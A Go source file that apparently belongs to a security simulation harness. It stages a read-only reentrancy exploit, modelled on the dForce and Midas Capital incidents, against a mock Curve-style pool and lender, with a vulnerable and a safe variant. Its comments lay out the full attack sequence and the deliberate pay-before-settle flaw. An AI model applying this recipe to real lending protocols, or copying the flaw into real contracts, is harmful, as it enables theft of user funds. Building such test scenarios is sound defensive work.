package attack

import (
	"context"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
)

// ReadOnlyReentrancy re-creates the read-only reentrancy through a Curve
// pool's get_virtual_price (dForce, Feb 2023; Midas Capital, Jan 2023).
//
// Setup deploys USDx, a staked-ETH token sETHx, ROReentrancyPool (native
// ETH + sETHx, LP priced by get_virtual_price) seeded by an honest LP with
// 100 ETH + 100 sETHx, and ROReentrancyLender (lends USDx against LP at
// virtual price x an ETH price of 2,000 USDx, 80% LTV) funded with 400,000
// USDx. The attacker holds 1,050 sETHx. The exploit is one transaction: add
// 50 ETH + 50 sETHx and post the LP as collateral (fairly worth 200,000
// USDx), add 1,000 ETH + 1,000 sETHx, remove it; the pool sends the ETH
// before it books the sETHx out, and inside the ETH callback the virtual
// price is ~4x, so the lender lends all its USDx. The attacker walks away
// from the collateral.
//
// Vulnerable: the pool pays ETH before settling (as Curve did). Safe: the
// pool settles first; the callback sees a fair virtual price, the borrow is
// capped at 80% of the collateral and the attacker loses 20% of it.
//
// Units: USDx; ETH, sETHx at 2,000 USDx, LP at 2,000 USDx (its fair
// virtual price). ProtocolLoss is the lender's value decrease (USDx lent
// minus the LP collateral it keeps).
type ReadOnlyReentrancy struct{}

// Info implements Scenario.
func (ReadOnlyReentrancy) Info() Info {
	return Info{
		Name:     "readonly-reentrancy",
		Class:    "read-only reentrancy (view function read mid-update)",
		Incident: "dForce Feb 2023 / Midas Capital Jan 2023 (Curve get_virtual_price)",
		Summary: "Inside the ETH callback of remove_liquidity, while the pool still counts coins it is about to pay out, " +
			"the attacker borrows all of a lender that prices LP collateral at the pool's virtual price.",
	}
}

// Setup implements Scenario.
func (ReadOnlyReentrancy) Setup(ctx context.Context, env *Env, v Variant) (Staged, error) {
	const name = "readonly-reentrancy"
	if err := prepare(name, env, v, 1); err != nil {
		return nil, err
	}
	c, d := env.Client, env.Deployer
	usd, err := deployUSDx(ctx, c, d)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	seth, err := deployToken(ctx, c, d, "Staked ETH X", "sETHx", tokens(1_000_000))
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	pool, err := deployNamed(ctx, c, d, "ROReentrancyPool", seth.Address, env.Guardian.Address, v == Safe)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	ethPrice := tokens(2000)
	lender, err := deployNamed(ctx, c, d, "ROReentrancyLender", usd.Address, pool.Address, ethPrice, env.Guardian.Address)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	lp := env.Users[0]
	if err := giveTokens(ctx, seth, d, tokens(100), lp.Address); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := transact(ctx, seth, lp, nil, "honest LP approves", "approve", pool.Address, tokens(100)); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := transact(ctx, pool, lp, tokens(100), "honest LP adds liquidity", "add_liquidity", tokens(100)); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := giveTokens(ctx, usd, d, tokens(400_000), lender.Address); err != nil {
		return nil, fmt.Errorf("%s: fund lender: %w", name, err)
	}
	atk, err := deployNamed(ctx, c, env.Attacker, "ROReentrancyAttacker", pool.Address, lender.Address, seth.Address, usd.Address)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := giveTokens(ctx, seth, d, tokens(1_050), atk.Address); err != nil {
		return nil, fmt.Errorf("%s: attacker's sETHx: %w", name, err)
	}
	s := &incidentStaged{
		client: c,
		targets: []Target{
			{Name: "ROReentrancyLender", Address: lender.Address, Pausable: true},
			{Name: pick(v, "ROReentrancyPool", "ROReentrancyPool (settles first)"), Address: pool.Address, Pausable: true},
		},
		book: &ledger{client: c, unit: "USDx", assets: []pricedAsset{
			{symbol: "USDx", token: usd, price: unitOne()},
			{symbol: "ETH", price: ethPrice},
			{symbol: "sETHx", token: seth, price: ethPrice},
			{symbol: "LP", token: pool, price: ethPrice},
		}},
		attackerEOA: env.Attacker.Address,
		attackers:   []common.Address{env.Attacker.Address, atk.Address},
		victims:     []common.Address{lender.Address},
	}
	s.build = func(ctx context.Context) ([]*types.Transaction, error) {
		value := new(big.Int).Add(tokens(50), tokens(1_000))
		tx, err := buildCall(ctx, c, env.Attacker, atk, value, "attack", tokens(50))
		if err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		return []*types.Transaction{tx}, nil
	}
	if err := s.baseline(ctx); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	return s, nil
}
